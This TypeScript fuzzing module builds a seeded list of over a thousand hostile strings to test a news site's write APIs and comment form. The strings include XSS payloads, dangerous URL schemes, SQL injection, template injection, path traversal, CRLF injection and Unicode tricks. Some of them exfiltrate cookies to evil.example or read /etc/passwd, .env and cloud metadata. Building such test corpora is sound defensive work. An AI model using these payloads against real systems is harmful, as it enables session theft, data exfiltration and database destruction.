/**
 * Hostile text for fuzzing write APIs: markup and script in many spellings, dangerous URLs,
 * template and JSON breakers, SQL, control and invisible characters, bidi overrides, lone
 * surrogates, normalisation look-alikes, traversal, CRLF and very long values. Generated
 * deterministically from a seed, so a failure names an input that the next run sends again.
 * No value contains a stack-frame or driver-error signature, so those in a response are leaks.
 */

export type HostileKind =
  | 'script-tag' | 'event-handler' | 'dangerous-url' | 'breakout' | 'template' | 'sql' | 'control-char'
  | 'lone-surrogate' | 'bidi' | 'zero-width' | 'long' | 'traversal' | 'crlf' | 'null-byte' | 'normalisation' | 'oddity'
  // Added for the reader comment form (commentHostileStrings):
  | 'svg-mathml' | 'json-ld' | 'email-shaped' | 'url-shaped' | 'linkified' | 'world-script' | 'percent-literal' | 'mixed';

export interface HostileString { kind: HostileKind; value: string }

/** A small deterministic generator (mulberry32). */
export function seededRandom(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

/** One mebibyte: bigger than the Admin API's whole request body limit. */
export const ONE_MIB = 1024 * 1024;

/** Every hostile string, distinct, in a stable order (at least 500). */
export function hostileStrings(seed = 0xf022ed): HostileString[] {
  const rng = seededRandom(seed);
  const pick = <T>(items: readonly T[]): T => items[Math.floor(rng() * items.length)] as T;
  const out: HostileString[] = [];
  const seen = new Set<string>();
  const add = (kind: HostileKind, value: string) => {
    if (seen.has(value)) return;
    seen.add(value);
    out.push({ kind, value });
  };

  // Script elements: spellings of the tag, opening and closing forms.
  const cases = ['script', 'SCRIPT', 'ScRiPt', 'sCrIpT'];
  const opens = ['<S>', '<S >', '<S\t>', '<S\n>', '<S/>', '<S/x>', '<S type="text/javascript">', '<S src=//evil.example/x.js>',
    '<S src="data:text/javascript,alert(1)">', '<S async defer>', '<S\u000c>', '<S type=module>', "<S src='https://evil.example/a.js'>"];
  const closes = ['</S>', '</S >', '</S\n>', '', '</S foo="bar">', '</S\t>'];
  const bodies = ['alert(1)', 'alert(document.cookie)', 'fetch("//evil.example/?c="+document.cookie)', 'alert`1`', 'eval(atob("YWxlcnQoMSk="))', 'prompt(1)'];
  for (let i = 0; i < 25; i++) {
    const name = pick(cases);
    add('script-tag', `${pick(opens).replace('S', name)}${pick(bodies)}${pick(closes).replace('S', name)}`);
  }
  for (const v of ['<scr<script>ipt>alert(1)</scr</script>ipt>', '<<script>alert(1);//<</script>', '<script<{alert(1)}/></script>',
    '<script\u0000>alert(1)</script>', '\uff1cscript\uff1ealert(1)\uff1c/script\uff1e', '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
    '%3Cscript%3Ealert(1)%3C%2Fscript%3E', '&lt;script&gt;alert(1)&lt;/script&gt;', '&#60;script&#62;alert(1)&#60;/script&#62;',
    '&#x3C;script&#x3E;alert(1)&#x3C;/script&#x3E;', '+ADw-script+AD4-alert(1)+ADw-/script+AD4-', '<script>alert(String.fromCharCode(88,83,83))</script>',
    '<scr\u0000ipt>alert(1)</scr\u0000ipt>', '<script>/*', '*/alert(1)</script>', '<script>', '</script>', '<script src=x>', '<SCRIPT SRC=//evil.example/.j></SCRIPT>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', '<template><script>alert(1)</script></template>',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>', '<svg><script>alert(1)</script></svg>', '<svg><script href=data:,alert(1) />',
    '<xmp><script>alert(1)</script></xmp>', '<plaintext><script>alert(1)</script>', '<textarea><script>alert(1)</script></textarea>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>', '<style>@import "//evil.example/x.css";</style>', '<link rel=stylesheet href=//evil.example/x.css>',
    '<object data="//evil.example/x.swf"></object>', '<embed src="//evil.example/x.swf">', '<base href="//evil.example/">', '<form action=//evil.example><input name=q></form>',
    '<meta http-equiv="refresh" content="0;url=//evil.example/">', '<meta charset="utf-7">', '<frameset onload=alert(1)>']) add('script-tag', v);

  // Elements with event handlers: tags × handlers × spellings.
  const elements = ['img src=x', 'svg', 'body', 'iframe', 'details open', 'video src=x', 'audio src=x', 'input autofocus', 'marquee', 'a href=#',
    'div', 'math', 'select autofocus', 'textarea autofocus', 'object data=x', 'embed src=x', 'style', 'image src=x', 'isindex', 'keygen autofocus', 'p', 'x'];
  const handlers = ['onerror', 'onload', 'onmouseover', 'onfocus', 'onclick', 'ontoggle', 'onbegin', 'onanimationstart', 'OnErRoR', 'onpointerenter',
    'ONLOAD', 'onfocusin', 'onauxclick', 'onbeforetoggle'];
  const calls = ['=alert(1)', '="alert(1)"', "='alert(1)'", '=alert`1`', '=&#97;lert(1)', '="javascript:alert(1)"', '=top[`al`+`ert`](1)', '=\u0000alert(1)'];
  const gaps = [' ', '\t', '\n', '/', ' \u000c', '\r\n'];
  for (let i = 0; i < 45; i++) {
    const el = pick(elements);
    const gap = pick(gaps);
    add('event-handler', `<${el.replace(/ /g, gap)}${gap}${pick(handlers)}${pick(calls)}>${rng() < 0.3 ? `</${el.split(' ')[0]}>` : ''}`);
  }
  for (const v of ['<img src=x onerror=alert(1)//', '<img src="x" onerror="alert(1)"', '<svg onload=alert(1)', '<svg/onload=alert(1)>', '<body onload=alert(1)>',
    '<img src=`x`onerror=alert(1)>', '<img src="x`<script>alert(1)</script>"` `>', '<a onmouseover=alert(1)>hover</a>', '<div style="width:expression(alert(1))">',
    '<div style="background:url(javascript:alert(1))">', '<x onclick=alert(1)>click</x>', '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
    '<svg><set attributeName=href to=javascript:alert(1)>', '<input onfocus=alert(1) autofocus>', '<details open ontoggle=alert(1)>']) add('event-handler', v);

  // Dangerous URL schemes: spellings, entity encodings, whitespace inside the scheme, and where they are put.
  const schemes = ['javascript:', 'JaVaScRiPt:', 'JAVASCRIPT:', 'java\tscript:', 'java\nscript:', 'java\rscript:', ' javascript:', '\u0001javascript:',
    '&#106;avascript:', '&#x6A;avascript:', '&#0000106;&#0000097;vascript:', 'jav&#x09;ascript:', 'jav&#x0A;ascript:', 'javascript&colon;', '%6Aavascript:',
    'javascript\u0000:', 'vbscript:', 'VBScript:', 'vbscript&colon;', 'livescript:', 'data:text/html,', 'DATA:text/html,', 'data:text/html;base64,',
    'data:TEXT/HTML;charset=utf-8,', 'data:image/svg+xml,', 'data:application/xhtml+xml,', '\u00a0javascript:', 'javascript\u200b:'];
  const payloads: Record<string, string> = { 'data:text/html;base64,': 'PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==' };
  const code = (scheme: string) => payloads[scheme] ?? (scheme.toLowerCase().startsWith('data') ? '<script>alert(1)</script>' : pick(['alert(1)', '//%0aalert(1)', 'msgbox(1)', 'void(0);alert(1)']));
  const places = ['U', '<a href="U">link</a>', "<a href='U'>link</a>", '<a href=U>link</a>', '<img src="U">', '<iframe src="U"></iframe>',
    '<form action="U"><button>go</button></form>', '<button formaction="U">go</button>', '<object data="U"></object>', '<embed src="U">',
    '<meta http-equiv="refresh" content="0;url=U">', '<base href="U">', '[link](U)', '![image](U)', '<U>', '<a href="  U">x</a>', '<svg><a xlink:href="U"><text>x</text></a></svg>',
    '<video poster="U"></video>', '<q cite="U">x</q>', '<img srcset="U 1x">'];
  for (let i = 0; i < 50; i++) {
    const scheme = pick(schemes);
    add('dangerous-url', pick(places).replace('U', `${scheme}${code(scheme)}`));
  }
  for (const v of ['//evil.example/x.png', '/\\evil.example/x.png', '\\\\evil.example\\x.png', 'https://x.example/"onerror="alert(1)', '/x.png" onerror="alert(1)',
    "/x.png'><script>alert(1)</script>", 'http://x.example/<script>alert(1)</script>', 'https:javascript:alert(1)', 'http://evil.example@news.example.test/',
    '/media/x.png?"><svg onload=alert(1)>', 'https://x.example/a.png#"><img src=x onerror=alert(1)>', 'http://[::1]:22/', 'http://169.254.169.254/latest/meta-data/',
    'file:///etc/passwd', 'ftp://evil.example/x', 'blob:https://evil.example/x', 'jar:http://evil.example!/x', 'mhtml:http://evil.example/x.mht!x', 'about:blank',
    'view-source:https://news.example.test/', 'https://evil.example/\u202Egnp.exe']) add('dangerous-url', v);

  // Breaking out of attributes, elements, comments and CDATA.
  const escapes = ['"><', "'><", '"/><', '</title><', '</textarea><', '</style><', '</noscript><', '--><', ']]><', '</script><', '"></a><', '</option></select><',
    '</iframe><', '</xmp><', '</noembed><', '*/</script><'];
  const tails = ['script>alert(1)</script>', 'img src=x onerror=alert(1)>', 'svg onload=alert(1)>', 'iframe src=javascript:alert(1)>', 'a href=javascript:alert(1)>x</a>'];
  for (let i = 0; i < 20; i++) add('breakout', `${pick(['', 'Harbour ', 'x'])}${pick(escapes)}${pick(tails)}`);
  for (const v of ['" onmouseover="alert(1)', "' onmouseover='alert(1)", '" autofocus onfocus="alert(1)', '"onfocus=alert(1) autofocus x="', "'-alert(1)-'",
    '";alert(1);//', '\\";alert(1);//', "';alert(1);//", '</script>', '</SCRIPT >', '\u2028alert(1)', '\u2029alert(1)', '{"a":"</script>"}', '"}]}', '"', "'", '`',
    '\\', '\\"', "\\'", '<!--', '-->', '<!-- <script>alert(1)</script> -->', '<![CDATA[<script>alert(1)</script>]]>', ']]>', '<?xml version="1.0"?><x/>',
    '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>', '&', '&amp;', '&lt;', '&#0;', '&#x110000;', '&nbsp;&nbsp;', '<', '>', '<>', '</>',
    '< script>alert(1)</script>', '<\tscript>alert(1)</script>', '<%2Fscript>', '<b>bold</b>', '<i>x', '</p></div></main></body></html>', '<p>',
    '<h1>Fake headline</h1>', '<table><tr><td>x', '<a name="x">', '</a>', '<br/>', '<hr>']) add('breakout', v);

  // Template engines, JavaScript template literals and JSON.
  for (const v of ['{{7*7}}', '${7*7}', '#{7*7}', '<%= 7*7 %>', '{{=7*7}}', '${{7*7}}', '{{constructor.constructor("alert(1)")()}}', '{{$on.constructor("alert(1)")()}}',
    '${alert(1)}', '`${alert(1)}`', '{%raw%}{{7*7}}{%endraw%}', '[[7*7]]', '{7*7}', '@(7*7)', '*{7*7}', '{{> partial}}', '{{{html}}}', '<%- include("/etc/passwd") %>',
    '{"__proto__":{"admin":true}}', '__proto__', 'constructor', 'prototype', '[object Object]', 'toString', 'hasOwnProperty', 'null', 'undefined', 'NaN', 'true',
    'false', '0', '-1', '1e309', '[]', '{}', '{"headline":"x"}', '\\u0000', '\\x00', '\\n', '%s%s%s%s%n', '%x%x%x', '{0}', '$1', '$&', "$'", '$`']) add('template', v);

  // SQL, alone and inside text.
  const sql = ["'; DROP TABLE articles;--", "' OR 1=1--", "' OR '1'='1", '" OR ""="', "1'; DELETE FROM users;--", "admin'--", "') OR ('1'='1",
    "'; UPDATE articles SET status='published';--", "' UNION SELECT password_hash, email FROM users--", "1; SELECT pg_sleep(5)--", "' AND 1=CAST((SELECT version()) AS int)--",
    "'; ATTACH DATABASE '/tmp/x.db' AS x;--", "'||(SELECT email FROM users LIMIT 1)||'", "%' OR slug LIKE '%", "\\'; --", "1' ORDER BY 99--", "'; COPY users TO '/tmp/x';--",
    "x' COLLATE NOCASE--", "'; PRAGMA writable_schema=1;--", '$$; DROP TABLE articles; $$', "E'\\x27", "'/*", "*/'", '--', ';', "';"];
  for (const fragment of sql) add('sql', fragment);
  for (let i = 0; i < 5; i++) add('sql', `${pick(['Harbour bridge', 'Ada', 'News', 'a'])}${pick(sql)}`);

  // Control characters U+0000–U+001F and U+007F, alone and inside a word.
  for (let c = 0; c <= 0x20; c++) {
    const ch = String.fromCharCode(c === 0x20 ? 0x7f : c);
    add('control-char', ch);
    add('control-char', `Harbour${ch}bridge`);
  }
  add('control-char', '\u0080\u0085\u009b\u009f');
  add('control-char', '\u001b[2J\u001b[31mred');

  // Lone and reversed surrogates (the JSON layer accepts them as \\uD800 escapes).
  for (const v of ['\ud800', '\udbff', '\udc00', '\udfff', 'a\ud800b', '\udc00\ud800', 'Harbour \ud83d', '\ude00 bridge', '<script>\ud800</script>']) add('lone-surrogate', v);

  // Bidirectional overrides and marks.
  for (const mark of ['\u202a', '\u202b', '\u202c', '\u202d', '\u202e', '\u2066', '\u2067', '\u2068', '\u2069', '\u200e', '\u200f', '\u061c']) {
    add('bidi', mark);
    add('bidi', `invoice${mark}gpj.exe`);
    add('bidi', `${mark}<script>alert(1)</script>`);
  }
  add('bidi', '\u202e\u2066alert(1)\u2069\u202c');

  // Zero-width and invisible characters.
  for (const zw of ['\u200b', '\u200c', '\u200d', '\u2060', '\ufeff', '\u180e', '\u00ad', '\u034f', '\u2800', '\u3164']) {
    add('zero-width', zw);
    add('zero-width', `scr${zw}ipt`);
    add('zero-width', `<scr${zw}ipt>alert(1)</script>`);
    add('zero-width', `java${zw}script:alert(1)`);
  }
  add('zero-width', '\u200b'.repeat(300));
  add('zero-width', ' \t\u00a0\u2003\u3000 ');

  // Very long values: around each limit, and well past the whole-body limit.
  add('long', 'a'.repeat(101));
  add('long', 'a'.repeat(201));
  add('long', 'a'.repeat(301));
  add('long', 'a'.repeat(501));
  add('long', 'a'.repeat(1001));
  add('long', 'a'.repeat(2001));
  add('long', 'x '.repeat(50_000));
  add('long', '<script>alert(1)</script>'.repeat(8000));
  add('long', '<b>'.repeat(30_000));
  add('long', '<div>'.repeat(20_000));
  add('long', '*'.repeat(50_000));
  add('long', '['.repeat(50_000));
  add('long', '>'.repeat(50_000));
  add('long', `Z${'\u0301'.repeat(2000)}`);
  add('long', '\ud83d\ude00'.repeat(150_000));
  add('long', 'A'.repeat(ONE_MIB));
  add('long', '<'.repeat(ONE_MIB));

  // Path traversal.
  for (const v of ['../../etc/passwd', '../../../../../../etc/passwd', '..\\..\\windows\\win.ini', '%2e%2e%2f%2e%2e%2fetc%2fpasswd', '....//....//etc/passwd',
    '/../../../etc/passwd', '..%c0%af..%c0%afetc/passwd', '/etc/passwd%00.jpg', '/media/../../package.json', '/static/../.env', '../.git/config',
    '/proc/self/environ', 'C:\\Windows\\System32\\drivers\\etc\\hosts', '..;/..;/etc/passwd', '%252e%252e%252fetc%252fpasswd']) add('traversal', v);

  // CR/LF (header injection where a value reaches a header) and other line breaks.
  for (const v of ['a\r\nSet-Cookie: dateline_session=x', '%0d%0aLocation: //evil.example', '\r\n\r\n<script>alert(1)</script>', 'x\ry', 'x\ny', 'x\r\ny',
    'line\u2028separator', 'para\u2029separator', 'next\u0085line', 'Harbour\r\nX-Injected: 1', '\n', '\r\n', '\n\n\n']) add('crlf', v);

  // Null bytes in places that matter.
  for (const v of ['\u0000', '\u0000\u0000\u0000', 'Harbour\u0000', '\u0000<script>alert(1)</script>', 'javascript\u0000:alert(1)', '%00', 'x%00y', 'image.png\u0000.html']) add('null-byte', v);

  // Unicode normalisation variants and look-alikes (compatibility forms of markup included).
  for (const v of ['\u00e9', 'e\u0301', '\u00c5', '\u212b', 'A\u030a', '\ufb01nance', '\uff53\uff43\uff52\uff49\uff50\uff54', '\u017fcript', '\u212aelvin',
    '\ufe64script\ufe65alert(1)\ufe64/script\ufe65', '\u2329script\u232a', '\u1d36avascript:alert(1)', '\u0130stanbul', 'stra\u00dfe', 'STRASSE', '\u0131',
    '\u03a9\u2126', '\u1e9b\u0323', '\u0041\u030a\u0301', '\u00bd', '\u2460', '\u0663\u0664', 'x\u0308\u0323', '\u1100\u1161\u11a8', '\uac01',
    'D\u0307\u0323', '\u0065\u0301\u0301\u0301', '\uff1cimg src=x onerror=alert(1)\uff1e']) add('normalisation', v);

  // Odd but not hostile on their face: empty, whitespace, non-characters, private use, emoji.
  for (const v of ['', ' ', '   ', '\t', '\u00a0', '\ufffe', '\uffff', '\ufffd', '\ue000', '\udbff\udfff', '\udb40\udc01\udb40\udc41', '\ud83d\udc69\u200d\ud83d\udcbb',
    '\ud83c\udff3\ufe0f\u200d\ud83c\udf08', '\u0644\u064f\u0644\u064f\u0635\u0651\u0628\u064f\u0644\u064f\u0644\u0635\u0651\u0628\u064f\u0631\u0631\u064b \u0965 \u0965',
    'ZALGO\u0336\u0337\u0338\u0339\u033a\u033b\u033c', '\ud800\udc00', 'Harbour bridge reopens', 'a', 'A', '-', '_', '.', '..', '/', '?', '#', '%', '+', '*']) add('oddity', v);

  return out;
}

/** Up to `count` strings taken round-robin across kinds, so a sample still has every kind. */
export function spreadSample(strings: readonly HostileString[], count: number): HostileString[] {
  const byKind = new Map<HostileKind, HostileString[]>();
  for (const s of strings) byKind.set(s.kind, [...(byKind.get(s.kind) ?? []), s]);
  const queues = [...byKind.values()];
  const out: HostileString[] = [];
  for (let round = 0; out.length < count && queues.some((q) => q.length > round); round++) {
    for (const q of queues) {
      const item = q[round];
      if (item && out.length < count) out.push(item);
    }
  }
  return out;
}

/** Ordinary text of many scripts that must come back exactly as sent. */
export const ORDINARY_UNICODE = {
  arabic: 'افتتاح المكتبة الجديدة',
  hebrew: 'פתיחת הספרייה החדשה',
  emoji: 'Coders 👩🏽‍💻 and families 👨‍👩‍👧‍👦 🏳️‍🌈',
  combining: 'Cafe\u0301 and caf\u00e9',
  cjk: '新图书馆开幕 新しい図書館 새 도서관',
  mixed: 'Zoë’s «café» — naïve façade ½ ™',
} as const;

/**
 * The hostile strings above plus what a public comment form meets besides (at least 1,000 in
 * all): SVG and MathML payloads, JSON-LD and template-literal breakouts, values shaped to pass
 * the email and website checks while carrying markup, URLs that linkifying would turn into
 * links, right-to-left, CJK, emoji and combining text around markup, percent-escapes as literal
 * text, and pairs of the shorter strings run together. Deterministic for a seed.
 */
export function commentHostileStrings(seed = 0xc0_11e7): HostileString[] {
  const rng = seededRandom(seed);
  const pick = <T>(items: readonly T[]): T => items[Math.floor(rng() * items.length)] as T;
  const base = hostileStrings();
  const out: HostileString[] = [...base];
  const seen = new Set(base.map((s) => s.value));
  const add = (kind: HostileKind, value: string) => {
    if (seen.has(value)) return;
    seen.add(value);
    out.push({ kind, value });
  };
  const payloads = ['alert(1)', 'alert(document.domain)', 'confirm`1`', 'prompt(1)', 'top["al"+"ert"](1)', 'window.__pwned=1'];

  // SVG and MathML: foreign content parses differently from HTML.
  const svgOpens = ['<svg>', '<svg xmlns="http://www.w3.org/2000/svg">', '<svg><g>', '<math>', '<math><mi>', '<svg><foreignObject>', '<math><annotation-xml encoding="text/html">'];
  const svgBodies = ['<script>P</script>', '<animate onbegin=P attributeName=x dur=1s>', '<set attributeName=onmouseover to=P>', '<a xlink:href="javascript:P"><text x=20 y=20>x</text></a>',
    '<image href=x onerror=P>', '<use href="data:image/svg+xml,<svg id=x onload=P>#x">', '<style><img src=x onerror=P></style>', '<title><img src=x onerror=P></title>',
    '<desc><iframe srcdoc="<script>P</script>">', '<maction actiontype=statusline xlink:href=javascript:P>x</maction>', '<mglyph><svg><mtext><style><img src=x onerror=P>',
    '<handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">P</handler>', '<discard onbegin=P>', '<feImage href=javascript:P>'];
  for (const open of svgOpens) for (const body of svgBodies) if (rng() < 0.5) add('svg-mathml', `${open}${body.replace(/P/g, pick(payloads))}`);

  // JSON-LD, inline JSON and template literals: closing the script element or the string.
  for (const v of ['</script><script>alert(1)</script>', '"}</script><img src=x onerror=alert(1)>', "'}</script><svg onload=alert(1)>", '</script ><script>alert(1)</script>',
    '</SCRIPT\t><script>alert(1)</script>', '</script/x><script>alert(1)</script>', '<!--<script>', '<!--</script><script>alert(1)//-->', '"},"@type":"Person","name":"x',
    '","author":{"@type":"Person","name":"<script>alert(1)</script>"},"x":"', '\\"});alert(1);//', '\\u003c/script\\u003e\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
    '${alert(1)}`;alert(1);`', '`+alert(1)+`', '${`${alert(1)}`}', '\u2028</script>\u2029', '</script>\u0000<script>alert(1)</script>', ']]></script><script>alert(1)</script>',
    '{"@context":"https://schema.org","@type":"Comment"}', '"}]}</script>', '<\\/script><script>alert(1)<\\/script>']) add('json-ld', v);

  // Values that pass the email check ([^\s@<>()[\]\\,;:"]+@…) yet carry markup, script or SQL.
  const locals = ["x'onmouseover='alert(1)'", "admin'--", "x'OR'1'='1", '{{7*7}}', '${7*7}', 'javascript&colon;alert(1)', '%3Cscript%3E', '&#x3C;svg/onload=alert(1)&#x3E;',
    "'/**/OR/**/1=1--", 'x/onload=alert(1)//', 'δοκιμή', '用户', 'user+\u202etag', 'a\u200bb', 'x\u0301', '!#$%&*+/=?^_`{|}~-', 'a.b.c.d.e.f.g', 'x'.repeat(64), '-', '..'];
  const domains = ['example.org', 'x.example', 'παράδειγμα.δοκιμή', '例え.テスト', 'evil.example/?a=<script>', "x.example'><img src=x>", 'localhost.localdomain', 'xn--80ak6aa92e.com', '[::1]', 'x.y'];
  for (const local of locals) for (const domain of domains) if (rng() < 0.35) add('email-shaped', `${local}@${domain}`);

  // Values that pass the website check (http or https, a host, no spaces) yet carry markup.
  const hosts = ['x.example', 'xn--e1awd7f.com', 'ex\u0430mple.com', '127.0.0.1', '[::1]', 'user:pass@x.example', 'javascript:alert(1)@x.example', 'x.example:8080', 'xn--x-fuzz.example'];
  const tails = ['/"><script>alert(1)</script>', "/'onmouseover='alert(1)", '/?q=<svg/onload=alert(1)>', '/#"><img src=x onerror=alert(1)>', '/%22%3E%3Cscript%3Ealert(1)%3C/script%3E',
    '/%0d%0aSet-Cookie:x=1', '/\u202egnp.exe', '/javascript:alert(1)', '/?u=javascript:alert(1)', '/a"b', "/a'b", '/<>', '/`${alert(1)}`', '/\u2028', '/..%2f..%2fetc%2fpasswd', ''];
  for (const scheme of ['http://', 'https://', 'HTTPS://', 'hTTp://']) for (const host of hosts) for (const tail of tails) if (rng() < 0.12) add('url-shaped', `${scheme}${host}${tail}`);

  // Text that linkifying turns into links: the href must stay a web address and the markup text.
  const linkStarts = ['https://x.example/', 'http://x.example/', 'www.x.example/', 'https://x.example', 'www.x.example'];
  const linkEnds = ['"onmouseover="alert(1)', "'onmouseover='alert(1)", '<script>alert(1)</script>', '?a=<img src=x onerror=alert(1)>', '#javascript:alert(1)', ')"><svg onload=alert(1)>',
    '&quot;onmouseover=alert(1)', '&#34;><script>alert(1)</script>', '%22onmouseover=%22alert(1)', '\u202e', '>', '"', 'a/b/../../c'];
  for (const start of linkStarts) for (const end of linkEnds) add('linkified', `See ${start}${end} for more`);
  for (const v of ['javascript://x.example/%0aalert(1)', 'javascript://www.x.example/%0Aalert(1)', 'jAvAsCrIpT://%0aalert(1)', 'data://text/html,<script>alert(1)</script>',
    'vbscript://x.example/', 'mailto:x@x.example?body=<script>', 'ftp://x.example/<script>', '//x.example/<script>', 'https://x.example/\u0000<script>', 'www.javascript:alert(1)']) add('linkified', v);

  // Ordinary text of other scripts wrapped round markup, bidi controls and combining stacks.
  const scripts = ['افتتاح المكتبة', 'פתיחת הספרייה', '新图书馆开幕', '新しい図書館', '새 도서관', 'नई लाइब्रेरी', 'Новая библиотека', 'ห้องสมุดใหม่', '👩🏽‍💻🏳️‍🌈👨‍👩‍👧‍👦', 'Z\u0351\u0352\u0353\u0354\u0355'];
  const wraps = ['S', '\u202eS\u202c', '\u2067S\u2069', 'S<script>alert(1)</script>', '<b>S</b>', 'S\u200b\u200dS', 'S\u0301\u0301\u0301', '"S" onmouseover="alert(1)"', 'S\nS\n\nS', 'S'.repeat(3)];
  for (const text of scripts) for (const wrap of wraps) if (rng() < 0.6) add('world-script', wrap.replace(/S/g, text));

  // Percent-escapes typed as text (the raw body tests send them as bytes).
  for (const v of ['%C3%28', '%FF', '%FE%FF', '%E2%82', '%ED%A0%80', '%C0%AF', '%F4%90%80%80', '%00', '%', '%%', '%zz', '%u0041', '%uD800', '%2', '%%32%65', '%25%32%65', '+%2B+',
    '%3Cscript%3Ealert(1)%3C%2Fscript%3E', '%253Cscript%253E', '\\x3cscript\\x3e']) add('percent-literal', v);

  // Pairs of the shorter strings run together, until there are comfortably more than 1,000.
  const short = out.filter((s) => s.value.length > 0 && s.value.length < 80);
  for (let tries = 0; out.length < 1_030 && tries < 10_000; tries++) add('mixed', `${pick(short).value}${pick(['', ' ', '\n'])}${pick(short).value}`);
  return out;
}
